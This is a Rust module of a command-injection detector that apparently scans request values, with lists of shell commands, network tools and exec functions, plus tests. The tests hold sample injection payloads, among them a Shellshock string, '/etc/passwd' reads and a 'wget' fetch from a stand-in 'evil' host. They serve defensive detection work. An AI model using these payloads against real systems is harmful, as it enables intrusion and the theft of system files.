//! OS command injection: a value that ends the command it is spliced into
//! and starts another, or substitutes one.
//!
//! What is looked for, on the decoded value:
//! - a shell separator (`;`, `|`, `||`, `&`, `&&`, a newline) or a
//!   substitution (`` `...` ``, `$(...)`) followed by a command. Commands
//!   whose names are also words (`cat`, `type`, `sleep`, `ping`) count only
//!   with arguments that look like a command line's (a flag, a path, a
//!   number, a URL), so `dogs; cat lovers` is text;
//! - the Shellshock function prefix `() {`, `${IFS}` and similar shell-only
//!   tokens, and well-known shells by path (`/bin/sh`);
//! - calls of functions that run commands in the interpreters behind web
//!   applications (`system('...')`, `shell_exec(`, `Runtime.getRuntime().exec(`);
//! - at level 2, a value that is a command line of its own (`ls -la /tmp`);
//!   at level 3, redirections (`> /tmp/x`, `2>&1`).

use super::prefilter::{AMP, BACKTICK, DOLLAR, NEWLINE, PAREN, PERCENT, PIPE, SEMI, SLASH};
use super::xss::{Needles, find, matches_any};
use super::{Category, Hit, Severity};

const CRIT: Severity = Severity::Critical;

/// Commands no text runs into: their name alone after a separator is enough.
const STRONG: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "tcsh",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "perl",
    "python",
    "python3",
    "ruby",
    "php",
    "telnet",
    "systeminfo",
    "hostname",
    "chmod",
    "chown",
    "mkfifo",
    "base64",
    "xterm",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "reg",
    "net",
    "wmic",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "passwd",
    "useradd",
    "crontab",
    "busybox",
    "socat",
    "tftp",
    "ftp",
    "scp",
    "ssh",
    "dig",
    "traceroute",
    "tracert",
    "pwd",
    "env",
    "printenv",
    "uptime",
    "lsb_release",
    "getent",
    "awk",
    "sed",
    "xargs",
    "nohup",
    "setsid",
    "sudo",
    "su",
    "rm",
    "mv",
    "cp",
    "touch",
    "tar",
    "gcc",
    "ls",
    "dir",
    "ver",
    "vol",
    "arp",
    "route",
    "ps",
    "kill",
    "killall",
    "pkill",
    "shutdown",
    "reboot",
    "exec",
    "eval",
];

/// Commands that are also ordinary words: they need command-line arguments.
const WEAK: &[&str] = &[
    "cat", "type", "echo", "sleep", "ping", "find", "more", "less", "head", "tail", "sort", "set",
    "print", "who", "w", "last", "time", "timeout", "wait", "expr", "test", "start", "call",
    "copy", "del", "move", "read", "which", "whereis", "locate", "file", "grep", "nmap", "md",
    "mkdir", "rmdir", "uniq", "cut", "date", "finger",
];

/// Functions of PHP, Python, Perl, Ruby, Java and Node that run commands.
const EXEC_CALLS: &[&str] = &[
    "system(",
    "exec(",
    "shell_exec(",
    "passthru(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "runtime.getruntime(",
    "child_process",
    "execsync(",
    "spawnsync(",
    "processbuilder(",
    "__import__(",
    "${@",
    "assert(",
];

/// `a < b`, byte by byte (the order of `str`'s `Ord`), at compile time.
const fn less(a: &[u8], b: &[u8]) -> bool {
    let mut i = 0;
    while i < a.len() && i < b.len() {
        if a[i] != b[i] {
            return a[i] < b[i];
        }
        i += 1;
    }
    a.len() < b.len()
}

/// `list` sorted at compile time, for a binary search instead of comparing
/// a name with every command.
const fn sorted<const N: usize>(list: &[&'static str]) -> [&'static str; N] {
    let mut out = [""; N];
    let mut i = 0;
    while i < N {
        out[i] = list[i];
        i += 1;
    }
    let mut i = 1;
    while i < N {
        let mut j = i;
        while j > 0 && less(out[j].as_bytes(), out[j - 1].as_bytes()) {
            let t = out[j];
            out[j] = out[j - 1];
            out[j - 1] = t;
            j -= 1;
        }
        i += 1;
    }
    out
}

static STRONG_SORTED: [&str; STRONG.len()] = sorted(STRONG);
static WEAK_SORTED: [&str; WEAK.len()] = sorted(WEAK);

/// For each byte, bit `n` set when a command of [`STRONG`] or [`WEAK`] of
/// length `n` (or of 63 and more) starts with it: most words are turned
/// down on this alone, before the binary searches.
static COMMAND_LENGTHS: [u64; 256] = {
    let mut table = [0u64; 256];
    let mut j = 0;
    while j < STRONG.len() + WEAK.len() {
        let w = if j < STRONG.len() {
            STRONG[j].as_bytes()
        } else {
            WEAK[j - STRONG.len()].as_bytes()
        };
        table[w[0] as usize] |= length_bit(w.len());
        j += 1;
    }
    table
};

const fn length_bit(len: usize) -> u64 {
    1 << if len < 63 { len } else { 63 }
}

/// Whether `name` may be a command of [`STRONG`] or [`WEAK`] (never false
/// for one that is).
fn may_be_command(name: &str) -> bool {
    name.as_bytes()
        .first()
        .is_some_and(|&b| COMMAND_LENGTHS[usize::from(b)] & length_bit(name.len()) != 0)
}

#[cfg(test)]
static EXEC_CALL_SET: Needles = Needles::new(EXEC_CALLS);

/// Tokens only a shell command line has.
const SHELL_TOKENS: &[&str] = &[
    "${ifs}",
    "$ifs$",
    "$ifs",
    "() {",
    "(){",
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "/bin/dash",
    "/bin/busybox",
    "/usr/bin/id",
    "/bin/nc",
    "/bin/cat",
    "/usr/bin/wget",
    "/usr/bin/curl",
    "%comspec%",
    "cmd /c",
    "cmd.exe",
    "powershell -",
    "|| ping",
    "&& ping",
];

#[cfg(test)]
static SHELL_TOKEN_SET: Needles = Needles::new(SHELL_TOKENS);

/// [`SHELL_TOKENS`] then [`EXEC_CALLS`], for one search that finds both:
/// a needle index below `SHELL_TOKENS.len()` is a shell token.
const SHELL_TOKENS_AND_EXEC_CALLS: [&str; SHELL_TOKENS.len() + EXEC_CALLS.len()] = {
    let mut out = [""; SHELL_TOKENS.len() + EXEC_CALLS.len()];
    let mut i = 0;
    while i < out.len() {
        out[i] = if i < SHELL_TOKENS.len() {
            SHELL_TOKENS[i]
        } else {
            EXEC_CALLS[i - SHELL_TOKENS.len()]
        };
        i += 1;
    }
    out
};

static SHELL_OR_EXEC_SET: Needles = Needles::new(&SHELL_TOKENS_AND_EXEC_CALLS);

/// Looks for command injection in `text`. Returns the bytes processed.
#[cfg(test)]
pub(crate) fn detect(text: &str, level: u8, hits: &mut Vec<Hit>) -> u64 {
    detect_classified(
        text,
        super::prefilter::classes(text.as_bytes()),
        level,
        hits,
    )
}

/// [`detect`] for a `text` whose byte classes ([`classes`]) are `mask`: the
/// first tests read the classes instead of the bytes.
pub(crate) fn detect_classified(text: &str, mask: u32, level: u8, hits: &mut Vec<Hit>) -> u64 {
    let raw = text.as_bytes();
    // `;|&` and a backtick, `\n` and `\r`, `$`: the separator classes.
    let separators = mask & (SEMI | PIPE | AMP | BACKTICK | NEWLINE | DOLLAR) != 0;
    // `(`, `/` or `%` (the class of `(` has `)` too).
    let shell =
        separators || mask & (SLASH | PERCENT) != 0 || (mask & PAREN != 0 && raw.contains(&b'('));
    if !shell && level < 2 {
        return raw.len() as u64;
    }
    super::scratch::with_mapped(
        raw,
        |b| b.to_ascii_lowercase(),
        |s| {
            scan(s, raw, separators, shell, level, hits);
        },
    );
    2 * raw.len() as u64
}

/// The rules of [`detect`] on `s`, the lower-cased `raw`.
fn scan(s: &[u8], raw: &[u8], separators: bool, shell: bool, level: u8, hits: &mut Vec<Hit>) {
    let mut add = |rule: &'static str, span: (usize, usize)| {
        if !hits.iter().any(|h| h.rule == rule) {
            hits.push(Hit::new(Category::Cmdi, rule, CRIT, span));
        }
    };
    if separators {
        // Separators and substitutions, then a command.
        for (i, &b) in s.iter().enumerate() {
            let start = match b {
                b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => i + 1,
                b'$' if s.get(i + 1) == Some(&b'(') => i + 2,
                _ => continue,
            };
            if let Some(end) = command_at(s, start) {
                add("cmdi.command-after-separator", (i, s.len().min(end + 30)));
                break;
            }
        }
    }
    if shell {
        let (shell_token, exec_call) = shell_token_and_exec_call(s, raw);
        if let Some(p) = shell_token {
            add("cmdi.shell-syntax", (p, s.len().min(p + 40)));
        }
        if let Some(p) = exec_call {
            add("cmdi.exec-call", (p, s.len().min(p + 40)));
        }
    }
    if level >= 2 && command_at(s, 0).is_some() {
        add("cmdi.command-line", (0, s.len().min(60)));
    }
    if level >= 3 {
        for redirect in [
            &b"2>&1"[..],
            b">/dev/null",
            b"> /dev/null",
            b">/tmp/",
            b"> /tmp/",
            b"</etc/",
        ] {
            if let Some(p) = find(s, redirect) {
                add("cmdi.redirection", (p, s.len().min(p + 30)));
                break;
            }
        }
    }
}

/// Where the first shell token starts in `s` (the lower-cased `raw`), and
/// the first exec call that is a whole name when `raw` has a `(` or `$`
/// (every exec call has one): one search for both lists instead of one
/// each. Matches come by position, so the first of each kind is the first
/// its own search finds (the proptest compares with
/// [`shell_token_and_exec_call_by_two_searches`]).
fn shell_token_and_exec_call(s: &[u8], raw: &[u8]) -> (Option<usize>, Option<usize>) {
    let want_exec = raw.contains(&b'(') || raw.contains(&b'$');
    if want_exec {
        // The step count of the two searches this one replaces.
        super::steps::add(s.len());
    }
    let (mut shell_token, mut exec_call) = (None, None);
    for (p, j) in matches_any(s, &SHELL_OR_EXEC_SET) {
        if j < SHELL_TOKENS.len() {
            shell_token.get_or_insert(p);
        } else if want_exec && exec_call.is_none() && is_whole_name_at(s, p) {
            exec_call = Some(p);
        }
        if shell_token.is_some() && (exec_call.is_some() || !want_exec) {
            break;
        }
    }
    (shell_token, exec_call)
}

/// Whether nothing of a name ends right before `p`.
fn is_whole_name_at(s: &[u8], p: usize) -> bool {
    p == 0 || !(s[p - 1].is_ascii_alphanumeric() || s[p - 1] == b'_')
}

/// What [`shell_token_and_exec_call`] replaces: one search per list.
#[cfg(test)]
fn shell_token_and_exec_call_by_two_searches(
    s: &[u8],
    raw: &[u8],
) -> (Option<usize>, Option<usize>) {
    let shell_token = matches_any(s, &SHELL_TOKEN_SET).next().map(|(p, _)| p);
    let exec_call = if raw.contains(&b'(') || raw.contains(&b'$') {
        matches_any(s, &EXEC_CALL_SET)
            .find(|&(p, _)| is_whole_name_at(s, p))
            .map(|(p, _)| p)
    } else {
        None
    };
    (shell_token, exec_call)
}

/// If a command starts at `start` (after spaces, an optional path such as
/// `/usr/bin/`, and quotes), the end of its name.
fn command_at(s: &[u8], start: usize) -> Option<usize> {
    let mut i = start;
    while i < s.len() && matches!(s[i], b' ' | b'\t' | b'\'' | b'"' | b'(' | b'{' | b'@') {
        i += 1;
    }
    // `/bin/cat`, `c:\windows\system32\cmd.exe`: take the last path segment.
    let word_start = i;
    while i < s.len()
        && (s[i].is_ascii_alphanumeric()
            || matches!(s[i], b'/' | b'\\' | b'.' | b'_' | b'-' | b':'))
    {
        i += 1;
    }
    let word = &s[word_start..i];
    let name = word
        .rsplit(|&b| b == b'/' || b == b'\\')
        .next()
        .unwrap_or(word);
    if name.is_empty() {
        return None;
    }
    let name = std::str::from_utf8(name).ok()?;
    if !may_be_command(name) {
        return None;
    }
    let rest = &s[i..];
    let arg_end = rest
        .iter()
        .position(|&b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'`' | b')'))
        .unwrap_or(rest.len());
    let args = &rest[..arg_end];
    let ends_cleanly = args.iter().all(|b| b.is_ascii_whitespace());
    if STRONG_SORTED.binary_search(&name).is_ok() {
        // `id` and `sh` are short: the name has to end there.
        return (ends_cleanly || rest.first().is_some_and(|b| matches!(b, b' ' | b'\t')))
            .then_some(i);
    }
    if WEAK_SORTED.binary_search(&name).is_ok() && command_like_args(args) {
        return Some(i);
    }
    None
}

/// Arguments that look like a command line's: a flag, a path, a number, a URL.
fn command_like_args(args: &[u8]) -> bool {
    let mut words = args
        .split(|b| b.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
        .peekable();
    if words.peek().is_none() {
        return false;
    }
    words.any(|w| {
        w.starts_with(b"-")
            || w.starts_with(b"/")
            || w.starts_with(b"~")
            || w.starts_with(b"./")
            || w.starts_with(b"$")
            || (w.len() > 2 && w[1] == b':' && matches!(w[2], b'\\' | b'/'))
            || w.iter().all(u8::is_ascii_digit)
            || find(w, b"://").is_some()
            || w.contains(&b'>')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str, level: u8) -> Vec<&'static str> {
        let mut hits = Vec::new();
        detect(text, level, &mut hits);
        hits.into_iter().map(|h| h.rule).collect()
    }

    /// Pieces of shell tokens, exec calls and the text around them.
    const TOKEN_PIECES: &[&str] = &[
        "system(",
        "exec(",
        "os.",
        "popen(",
        "subprocess.",
        "${@",
        "${ifs}",
        "$ifs",
        "(){",
        "() {",
        "/bin/sh",
        "/bin/",
        "cmd /c",
        "cmd.exe",
        "%comspec%",
        "powershell -",
        "|| ping",
        "&& ping",
        "assert(",
        "__import__(",
        "x",
        "_",
        "1",
        " ",
        "(",
        ")",
        "$",
        "{",
        "/",
        ";",
        "|",
        "&",
        "é",
    ];

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(4000))]

        /// One search for both lists finds what one search per list finds.
        #[test]
        fn one_search_agrees_with_two(parts in proptest::collection::vec(0..TOKEN_PIECES.len(), 0..12)) {
            let raw: String = parts.iter().map(|&i| TOKEN_PIECES[i]).collect();
            let s = raw.to_ascii_lowercase();
            proptest::prop_assert_eq!(
                shell_token_and_exec_call(s.as_bytes(), raw.as_bytes()),
                shell_token_and_exec_call_by_two_searches(s.as_bytes(), raw.as_bytes()),
                "{:?}", raw
            );
        }
    }

    #[test]
    fn finds_separators_substitutions_and_exec_calls() {
        for attack in [
            "; id",
            "| whoami",
            "1 && cat /etc/passwd",
            "`uname -a`",
            "$(sleep 5)",
            "x\nwget http://evil/x.sh",
            "() { :;}; /bin/bash -c id",
            "system('ls -la');",
            "cat${IFS}/etc/passwd",
            "& ping -n 5 127.0.0.1 &",
        ] {
            assert!(!rules(attack, 1).is_empty(), "{attack}");
        }
        assert!(rules("ls -la /tmp", 2).contains(&"cmdi.command-line"));
    }

    /// The prefilter's command gate rests on this: every shell token that
    /// has no separator, `$` or `(` contains one of its words.
    #[test]
    fn every_shell_token_without_a_separator_has_a_shell_word() {
        use super::super::prefilter::{SHELL_WORDS, has_shell_word};
        for token in SHELL_TOKENS {
            if token.bytes().any(|b| b";|&`\n\r$(".contains(&b)) {
                continue;
            }
            assert!(has_shell_word(token.as_bytes()), "{token}");
        }
        for word in SHELL_WORDS {
            assert!(
                SHELL_TOKENS
                    .iter()
                    .any(|t| t.as_bytes().windows(word.len()).any(|w| w == word)),
                "{word:?} is in no token"
            );
        }
    }

    proptest::proptest! {
        /// The binary search over the sorted copies finds exactly the names
        /// of the lists.
        #[test]
        fn sorted_lookup_agrees_with_the_lists(name in "[a-z0-9._]{0,9}", pick in 0..200usize) {
            let all: Vec<&str> = STRONG.iter().chain(WEAK).copied().collect();
            let name = if pick < all.len() { all[pick].to_owned() } else { name };
            let name = name.as_str();
            proptest::prop_assert_eq!(STRONG_SORTED.binary_search(&name).is_ok(), STRONG.contains(&name));
            proptest::prop_assert_eq!(WEAK_SORTED.binary_search(&name).is_ok(), WEAK.contains(&name));
            if STRONG.contains(&name) || WEAK.contains(&name) {
                proptest::prop_assert!(may_be_command(name));
            }
        }
    }

    #[test]
    fn the_sorted_copies_are_sorted_and_complete() {
        for (list, sorted) in [(STRONG, &STRONG_SORTED[..]), (WEAK, &WEAK_SORTED[..])] {
            assert!(sorted.windows(2).all(|w| w[0] <= w[1]));
            let mut expected = list.to_vec();
            expected.sort_unstable();
            assert_eq!(sorted, &expected[..]);
        }
    }

    #[test]
    fn leaves_text_with_separators_alone() {
        for text in [
            "dogs; cat lovers welcome",
            "Tom & Jerry",
            "AT&T",
            "salt | pepper",
            "Rock & roll; sleep well",
            "price: $(5 off)",
            "a;b;c",
        ] {
            assert_eq!(rules(text, 1), Vec::<&str>::new(), "{text}");
        }
    }
}
